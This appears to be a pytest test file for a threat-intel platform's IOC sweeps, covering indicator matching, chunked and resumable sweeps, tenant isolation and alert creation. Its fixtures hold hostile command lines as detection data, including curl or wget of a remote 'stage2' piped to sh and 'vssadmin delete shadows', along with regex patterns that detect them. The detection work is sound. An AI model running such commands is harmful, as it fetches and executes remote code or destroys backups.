"""Sweeps: every IOC family matched set-wise (the same hits on SQLite and PostgreSQL),
targeting, time windows, chunks (idempotent, cancellable, resumable), retro-hunts,
continuous matching, and hits becoming alerts and cases. A sweep never sees another
tenant's telemetry (on PostgreSQL by Row-Level Security too)."""

from __future__ import annotations

import datetime as dt
import ipaddress
import random

import pytest
from django.db import connection

from cases.models import Alert, Case, CaseLink
from intel import sweepsql
from intel.models import IOC, Hit, Sweep, SweepChunk
from intel.services import (
    ioc_create,
    ioc_expire,
    sweep_cancel,
    sweep_launch,
    sweep_resume,
    sweep_run_chunk,
)
from tenancy.context import tenant_context
from tests.intel.factories import NOW, make_endpoint, make_ioc, observe

pytestmark = pytest.mark.django_db

SHA = "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8"
MD5 = "0cc175b9c0f1b6a831c399e269772661"
SHA1 = "86f7e437faa5a7fce15d1ddcb9eaeaea377667b8"


def hits_of(sweep) -> set[tuple[str, str]]:
    return set(Hit.objects.filter(sweep=sweep).values_list("ioc_key", "endpoint__hostname"))


@pytest.fixture
def run(django_capture_on_commit_callbacks):
    """run(**kwargs): launch a sweep and let its chunks run (eager Celery, after commit)."""

    def launch(**kwargs) -> Sweep:
        with django_capture_on_commit_callbacks(execute=True):
            sweep = sweep_launch(**kwargs)
        sweep.refresh_from_db()
        return sweep

    return launch


@pytest.fixture
def fleet(tenant_a, django_capture_on_commit_callbacks):
    """Three Windows hosts and a Linux one, with telemetry that each IOC family should (or
    should not) match."""
    with tenant_context(tenant_a):
        win1 = make_endpoint("win1", groups=["Finance"], tags=["site:hq"], privileged=True)
        win2 = make_endpoint("win2", groups=["Engineering"])
        win3 = make_endpoint("win3", tags=["site:lon"])
        lin = make_endpoint("lin1", os_family="linux")
        observe(
            win1,
            [
                {
                    "sha256": SHA,
                    "process_name": "invoice.exe",
                    "process_path": r"c:\users\ann\appdata\roaming\upd\invoice.exe",
                    "command_line": "Invoice.exe /silent -EncodedCommand SQBFAFgA",
                },
                {"kind": "dns", "dns_query": "cdn.evil-cdn.net", "process_name": "invoice.exe"},
                {"kind": "network", "remote_ip": "203.0.113.77", "remote_port": 443},
                {
                    "kind": "file",
                    "file_path": r"c:\users\ann\appdata\local\temp\x.7z",
                    "file_name": "x.7z",
                    "header_hex": "377abcaf271c00040000000000000000",
                },
                {
                    "kind": "registry",
                    "registry_key": r"hkcu\software\microsoft\windows\currentversion\run\upd",
                },
            ],
        )
        observe(
            win2,
            [
                {"md5": MD5, "process_name": "tool.exe", "command_line": "tool.exe --quiet"},
                {"kind": "dns", "dns_query": "evil-cdn.net.attacker-mirror.org"},  # not a suffix
                {"kind": "dns", "dns_query": "notevil-cdn.net"},  # not a label boundary
                {"kind": "network", "remote_ip": "203.0.114.1"},  # outside the /24
                {"kind": "logon", "source_ip": "2001:db8:beef::10", "logon_type": 3},
            ],
        )
        observe(
            win3,
            [
                {
                    "kind": "autorun",
                    "sha1": SHA1,
                    "item_name": "updater",
                    "autorun_type": "run_key",
                    "target_path": r"c:\programdata\upd\updater.exe",
                },
                {"command_line": "curl -s http://bad-site.net/stage2 | sh"},
                {"kind": "dns", "dns_query": "evil-cdn.net"},
            ],
        )
        observe(
            lin,
            [
                {"sha256": SHA, "process_name": "invoice.exe", "process_path": "/tmp/invoice.exe"},
                {"command_line": "bash -c 'wget http://bad-site.net/stage2'"},
            ],
        )
    return {"win1": win1, "win2": win2, "win3": win3, "lin1": lin}


def add_family_iocs(tenant):
    with tenant_context(tenant):
        make_ioc("sha256", SHA, severity="high")
        make_ioc("md5", MD5)
        make_ioc("sha1", SHA1)
        make_ioc("domain", "evil-cdn.net")
        make_ioc("cidr", "203.0.113.0/24", force=True)
        make_ioc("ipv6", "2001:db8:beef::10", force=True)
        make_ioc("file_path", r"%appdata%\upd\*.exe")
        make_ioc("file_name", "updater.exe")  # only target_path has it: no match
        make_ioc("registry_key", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\*")
        make_ioc("header_bytes", "37 7A BC AF 27 1C")
        make_ioc("cmdline", "-encodedcommand")
        make_ioc("cmdline", r"re:wget\s+https?://")
        make_ioc("url", "http://bad-site.net/stage2")


EXPECTED = {
    (f"sha256:{SHA}", "win1"),
    (f"sha256:{SHA}", "lin1"),
    (f"md5:{MD5}", "win2"),
    (f"sha1:{SHA1}", "win3"),
    ("domain:evil-cdn.net", "win1"),
    ("domain:evil-cdn.net", "win3"),
    ("cidr:203.0.113.0/24", "win1"),
    ("ipv6:2001:db8:beef::10", "win2"),
    (r"file_path:%appdata%\upd\*.exe", "win1"),
    (r"registry_key:hkcu\software\microsoft\windows\currentversion\run\*", "win1"),
    ("header_bytes:377abcaf271c", "win1"),
    ("cmdline:-encodedcommand", "win1"),
    (r"cmdline:re:wget\s+https?://", "lin1"),
    ("url:http://bad-site.net/stage2", "win3"),
    ("url:http://bad-site.net/stage2", "lin1"),
}


def test_every_family_finds_exactly_the_planted_hits(tenant_a, fleet, run):
    add_family_iocs(tenant_a)
    with tenant_context(tenant_a):
        sweep = run(name="all", chunk_endpoints=2)
        assert sweep.status == "succeeded" and sweep.progress == 100
        assert (sweep.chunks_total, sweep.chunks_done, sweep.endpoints_scanned) == (2, 2, 4)
        assert hits_of(sweep) == EXPECTED
        assert sweep.hits_count == len(EXPECTED)
        hit = Hit.objects.get(sweep=sweep, ioc_key=f"sha256:{SHA}", endpoint=fleet["win1"])
        assert hit.matched_field == "sha256" and hit.observation.sha256 == SHA
        assert IOC.objects.get(type="sha256").sightings_count == 2


def test_the_big_sweep_path_finds_the_same_hits(tenant_a, fleet, run, monkeypatch):
    """Past `FEW_TERMS`, a PostgreSQL chunk joins temporary copies of its rows and terms."""
    from intel.services import sweeps

    monkeypatch.setattr(sweeps, "FEW_TERMS", 0)
    add_family_iocs(tenant_a)
    with tenant_context(tenant_a):
        sweep = run(chunk_endpoints=3)
        assert hits_of(sweep) == EXPECTED and sweep.status == "succeeded"


def test_exact_domain_does_not_match_subdomains(tenant_a, fleet, run):
    with tenant_context(tenant_a):
        make_ioc("domain", "evil-cdn.net", domain_exact=True)
        sweep = run(selection="all")
        assert hits_of(sweep) == {("domain:evil-cdn.net", "win3")}


@pytest.mark.parametrize("seed", [1, 2])
def test_cidr_containment_agrees_with_python(tenant_a, seed, run):
    """`inet <<= cidr` on PostgreSQL, hex ranges on SQLite: both equal ipaddress's answer."""
    rng = random.Random(seed)
    networks = [
        ipaddress.ip_network(
            f"198.18.{rng.randrange(0, 256)}.0/{rng.choice([24, 25, 28])}", strict=False
        )
        for _ in range(6)
    ]
    networks.append(ipaddress.ip_network("2001:db8:42::/48"))
    addresses = [f"198.18.{rng.randrange(0, 256)}.{rng.randrange(0, 256)}" for _ in range(60)]
    addresses += ["2001:db8:42::1", "2001:db8:43::1"]
    with tenant_context(tenant_a):
        endpoint = make_endpoint("net")
        observe(endpoint, [{"kind": "network", "remote_ip": a} for a in addresses])
        for network in networks:
            make_ioc("cidr", str(network), force=True)
        sweep = run(selection="all")
        found = set(Hit.objects.filter(sweep=sweep).values_list("ioc_key", flat=True))
    expected = {
        f"cidr:{network}"
        for network in networks
        if any(ipaddress.ip_address(a) in network for a in addresses)
    }
    assert found == expected


def test_targeting_by_os_group_tag_and_privilege(tenant_a, fleet, run):
    add_family_iocs(tenant_a)
    with tenant_context(tenant_a):
        linux = run(os_family="linux")
        assert {host for _, host in hits_of(linux)} == {"lin1"}
        assert linux.endpoints_total == 1
        finance = run(groups=["Finance", "Engineering"])
        assert {host for _, host in hits_of(finance)} == {"win1", "win2"}
        tagged = run(tags=["site:lon"])
        assert {host for _, host in hits_of(tagged)} == {"win3"}
        admins = run(privileged=True)
        assert {host for _, host in hits_of(admins)} == {"win1"}


def test_time_window_limits_the_telemetry(tenant_a, run):
    with tenant_context(tenant_a):
        endpoint = make_endpoint("old")
        observe(endpoint, [{"sha256": SHA, "observed_at": NOW - dt.timedelta(days=10)}])
        make_ioc("sha256", SHA)
        recent = run(window_start=NOW - dt.timedelta(days=1))
        assert recent.hits_count == 0
        older = run(window_start=NOW - dt.timedelta(days=30), window_end=NOW - dt.timedelta(days=5))
        assert older.hits_count == 1


def test_ad_hoc_values_and_listed_iocs(tenant_a, fleet, run):
    with tenant_context(tenant_a):
        adhoc = run(selection="adhoc", adhoc_values=[SHA.upper(), "cmdline:tool.exe --quiet"])
        assert hits_of(adhoc) == {
            (f"sha256:{SHA}", "win1"),
            (f"sha256:{SHA}", "lin1"),
            ("cmdline:tool.exe --quiet", "win2"),
        }
        assert not IOC.objects.exists()  # ad-hoc values are not IOCs
        ioc = make_ioc("md5", MD5)
        listed = run(selection="iocs", ioc_ids=[ioc.pk])
        assert hits_of(listed) == {(f"md5:{MD5}", "win2")}


def test_bad_ad_hoc_values_are_a_clear_error(tenant_a):
    from django.core.exceptions import ValidationError

    with tenant_context(tenant_a), pytest.raises(ValidationError) as caught:
        sweep_launch(selection="adhoc", adhoc_values=["10.0.0.0/33", "abc"])
    message = str(caught.value)
    assert "line 1" in message and "line 2" in message


def test_expired_and_suppressed_iocs_do_not_match(tenant_a, fleet, run):
    with tenant_context(tenant_a):
        expired = make_ioc("sha256", SHA)
        ioc_expire(ioc=expired)
        make_ioc("ipv4", "203.0.113.77")  # documentation range: warning-listed, suppressed
        sweep = run(selection="all")
        assert sweep.terms_count == 0 and sweep.hits_count == 0 and sweep.status == "succeeded"


def test_a_chunk_run_twice_adds_no_duplicate_and_a_rolled_back_one_redoes_its_work(tenant_a, fleet):
    add_family_iocs(tenant_a)
    with tenant_context(tenant_a):
        sweep = sweep_launch(chunk_endpoints=1)  # queued, not dispatched
        chunks = list(SweepChunk.objects.filter(sweep=sweep).order_by("seq"))
        assert len(chunks) == 4
        assert sweep_run_chunk(chunk_id=chunks[0].pk) == "done"
        assert sweep_run_chunk(chunk_id=chunks[0].pk) == "skipped"
        # A worker died after its INSERTs but before COMMIT: the rows went with it.
        SweepChunk.objects.filter(pk=chunks[1].pk).update(status="pending")
        first_pass = sweep_run_chunk(chunk_id=chunks[1].pk)
        SweepChunk.objects.filter(pk=chunks[1].pk).update(status="pending")
        assert sweep_run_chunk(chunk_id=chunks[1].pk) == first_pass == "done"
        for chunk in chunks[2:]:
            sweep_run_chunk(chunk_id=chunk.pk)
        from intel.services import sweep_finalize

        sweep_finalize(sweep_id=sweep.pk)
        sweep.refresh_from_db()
        assert hits_of(sweep) == EXPECTED
        assert Hit.objects.filter(sweep=sweep).count() == len(EXPECTED)
        assert sweep.status == "succeeded"


def test_cancel_stops_the_remaining_chunks_and_keeps_the_hits(tenant_a, fleet):
    add_family_iocs(tenant_a)
    with tenant_context(tenant_a):
        sweep = sweep_launch(chunk_endpoints=2)
        first, second = SweepChunk.objects.filter(sweep=sweep).order_by("seq")
        sweep_run_chunk(chunk_id=first.pk)
        sweep_cancel(sweep=sweep)
        assert sweep_run_chunk(chunk_id=second.pk) == "skipped"
        sweep.refresh_from_db()
        assert sweep.status == "cancelled" and sweep.chunks_done == 1
        assert Hit.objects.filter(sweep=sweep).exists()


def test_resume_re_enqueues_only_what_is_not_done(
    tenant_a, fleet, django_capture_on_commit_callbacks
):
    add_family_iocs(tenant_a)
    with tenant_context(tenant_a):
        sweep = sweep_launch(chunk_endpoints=2)  # its dispatch message was "lost"
        first = SweepChunk.objects.filter(sweep=sweep).order_by("seq").first()
        sweep_run_chunk(chunk_id=first.pk)
        with django_capture_on_commit_callbacks(execute=True):
            assert sweep_resume(sweep=sweep) == 1
        sweep.refresh_from_db()
        assert sweep.status == "succeeded" and hits_of(sweep) == EXPECTED


def test_new_ioc_triggers_a_retro_hunt(tenant_a, fleet, django_capture_on_commit_callbacks):
    with tenant_context(tenant_a):
        with django_capture_on_commit_callbacks(execute=True):
            ioc, created, _ = ioc_create(type="md5", value=MD5.upper())
        assert created
        sweep = Sweep.objects.get(kind="retro_hunt")
        assert sweep.status == "succeeded" and sweep.selection_iocs == [ioc.pk]
        assert hits_of(sweep) == {(f"md5:{MD5}", "win2")}


def test_hits_become_alerts_and_the_case_shows_where_the_ioc_was_found(
    tenant_a, fleet, django_capture_on_commit_callbacks, run
):
    with tenant_context(tenant_a):
        with django_capture_on_commit_callbacks(execute=True):
            ioc = make_ioc("sha256", SHA, severity="high")
            sweep = run(selection="iocs", ioc_ids=[ioc.pk])
        alerts = Alert.objects.filter(source="ioc_sweep")
        assert alerts.count() == 2
        assert set(alerts.values_list("ioc_key", flat=True)) == {f"sha256:{SHA}"}
        (case,) = Case.objects.all()  # the second hit joined the first one's case (same IOC)
        assert set(alerts.values_list("case_id", flat=True)) == {case.pk}
        affected = CaseLink.objects.filter(case=case, relation="affected")
        assert sorted(link.object_repr for link in affected) == ["lin1", "win1"]
        assert CaseLink.objects.filter(case=case, relation="indicator").count() == 1
        assert set(Hit.objects.filter(sweep=sweep).values_list("case_id", flat=True)) == {case.pk}
        # a second sweep finds the same: deduplicated, no new alert or case
        with django_capture_on_commit_callbacks(execute=True):
            run(selection="iocs", ioc_ids=[ioc.pk])
        assert Alert.objects.filter(source="ioc_sweep").count() == 2
        assert Case.objects.count() == 1


def test_a_sweep_never_sees_another_tenants_telemetry(tenant_a, tenant_b, fleet, run):
    with tenant_context(tenant_b):
        other = make_endpoint("bravo-host")
        observe(other, [{"sha256": SHA}, {"kind": "dns", "dns_query": "evil-cdn.net"}])
    add_family_iocs(tenant_a)
    with tenant_context(tenant_a):
        sweep = run(selection="all")
        assert hits_of(sweep) == EXPECTED
    with tenant_context(tenant_b):
        assert not Hit.objects.exists()


@pytest.mark.postgres
def test_row_level_security_hides_other_tenants_rows_even_from_a_wrong_query(
    tenant_a, tenant_b, is_postgres
):
    """The chunk SQL pointed at tenant B's ids while tenant A is in context finds nothing."""
    if not is_postgres:
        pytest.skip("Row-Level Security exists on PostgreSQL only")
    with tenant_context(tenant_b):
        other = make_endpoint("bravo-host")
        observe(other, [{"sha256": SHA}])
        make_ioc("sha256", SHA)
        b_sweep = sweep_launch(selection="all")
    with tenant_context(tenant_a):
        family_sql, params = sweepsql.family_select(
            "hash",
            sweepsql.sweep_terms(tenant_b.pk, b_sweep.pk),
            sweepsql.chunk_scope(tenant_b.pk, other.pk, other.pk),
        )
        IOC.objects.exists()  # the session now carries tenant A
        with connection.cursor() as cursor:
            cursor.execute(family_sql, params)
            assert cursor.fetchall() == []
    with tenant_context(tenant_b), connection.cursor() as cursor:
        cursor.execute(family_sql, params)
        assert len(cursor.fetchall()) == 1


def test_arriving_telemetry_is_matched_against_active_iocs(tenant_a):
    from tests.intel.test_reputation import arrive

    with tenant_context(tenant_a):
        make_ioc("domain", "evil-cdn.net", severity="high")
        make_ioc("cmdline", r"re:vssadmin\s+delete\s+shadows")
        endpoint = make_endpoint("ws-live")
    arrive(
        tenant_a,
        endpoint,
        [
            {"kind": "dns", "dns_query": "x.evil-cdn.net"},
            {"kind": "process", "command_line": "vssadmin  Delete Shadows /all /quiet"},
            {"kind": "dns", "dns_query": "good.example.com"},
        ],
    )
    arrive(tenant_a, endpoint, [{"kind": "dns", "dns_query": "y.evil-cdn.net"}])
    with tenant_context(tenant_a):
        sweep = Sweep.objects.get(kind="continuous")
        assert hits_of(sweep) == {
            ("domain:evil-cdn.net", "ws-live"),
            (r"cmdline:re:vssadmin\s+delete\s+shadows", "ws-live"),
        }
        domain_hit = Hit.objects.get(sweep=sweep, ioc_type="domain")
        assert domain_hit.observations_count == 2 and domain_hit.last_seen >= domain_hit.first_seen
        alerts = Alert.objects.filter(source="ioc_sweep")
        assert alerts.count() == 2  # one per (IOC, endpoint), not one per batch
        assert Case.objects.count() == 1  # the high-severity domain opened it, the other joined


def test_the_watchdog_resumes_lost_sweeps_and_imports(
    tenant_a, fleet, django_capture_on_commit_callbacks
):
    import datetime as dt

    from intel.models import ImportJob
    from intel.services import import_create
    from intel.tasks import watchdog_task

    add_family_iocs(tenant_a)
    with tenant_context(tenant_a):
        sweep = sweep_launch(chunk_endpoints=2, dispatch=False)  # its messages never left
        job = import_create(data=b"lost-import.net\n", format="text", enqueue=False)
        ImportJob.objects.filter(pk=job.pk).update(created_at=NOW - dt.timedelta(hours=1))
    with django_capture_on_commit_callbacks(execute=True):
        assert watchdog_task.apply().get() == 1  # one tenant with work under way
    with tenant_context(tenant_a):
        sweep.refresh_from_db()
        job.refresh_from_db()
        assert sweep.status == "succeeded" and hits_of(sweep) == EXPECTED
        assert job.status == "succeeded" and job.added == 1


def test_a_bare_host_url_ioc_matches_a_command_line_without_the_trailing_slash():
    from intel.matching import match_keys, url_needle

    assert url_needle("http://evil.example/") == "http://evil.example"
    assert url_needle("http://evil.example/stage2") == "http://evil.example/stage2"
    keys = match_keys("url", "http://evil.example/")
    assert keys.needle in "curl.exe -s http://evil.example -o x.exe"
